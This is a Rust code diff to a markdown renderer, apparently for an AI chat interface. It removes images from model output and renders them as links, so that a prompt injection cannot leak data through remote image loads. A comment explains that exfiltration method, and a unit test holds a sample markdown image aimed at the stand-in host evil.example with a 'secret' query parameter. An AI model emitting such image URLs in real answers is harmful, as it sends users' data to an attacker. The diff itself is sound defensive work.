@@ -10,6 +10,8 @@ static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
     let mut builder = ammonia::Builder::default();
     builder
         .add_tags(["button"])
+        // Never an image from model output (see `render_markdown`); the page has its own.
+        .rm_tags(["img"])
         .add_generic_attributes(["class"])
         .add_tag_attributes("button", ["type", "data-copy-code"])
         .add_tag_attributes("th", ["style"])
@@ -48,6 +50,20 @@ pub fn render_markdown(source: &str) -> String {
                     buffer.push_str(&text);
                 }
             }
+            // An image would load a URL the model chose the moment the answer shows: the way a
+            // prompt injection sends data out. It becomes a link with its alt text instead.
+            Event::Start(Tag::Image {
+                link_type,
+                dest_url,
+                title,
+                id,
+            }) => events.push(Event::Start(Tag::Link {
+                link_type,
+                dest_url,
+                title,
+                id,
+            })),
+            Event::End(TagEnd::Image) => events.push(Event::End(TagEnd::Link)),
             // Raw HTML from the model or the person is shown as the text it is.
             Event::Html(html) | Event::InlineHtml(html) => events.push(Event::Text(html)),
             other => events.push(other),
@@ -174,5 +190,18 @@ mod tests {
             html.contains("print(&#39;hi&#39;)") || html.contains("print('hi')"),
             "{html}"
         );
+    }
+
+    #[test]
+    fn remote_images_become_links_and_never_load() {
+        let html = render_markdown(
+            "Look: ![secret data](https://evil.example/x.png?q=secret \"t\") and <img src=https://evil.example/y.png>",
+        );
+        assert!(!html.contains("<img"), "{html}");
+        assert!(
+            html.contains("href=\"https://evil.example/x.png?q=secret\""),
+            "shown as a link: {html}"
+        );
+        assert!(html.contains(">secret data</a>"), "{html}");
     }
 }
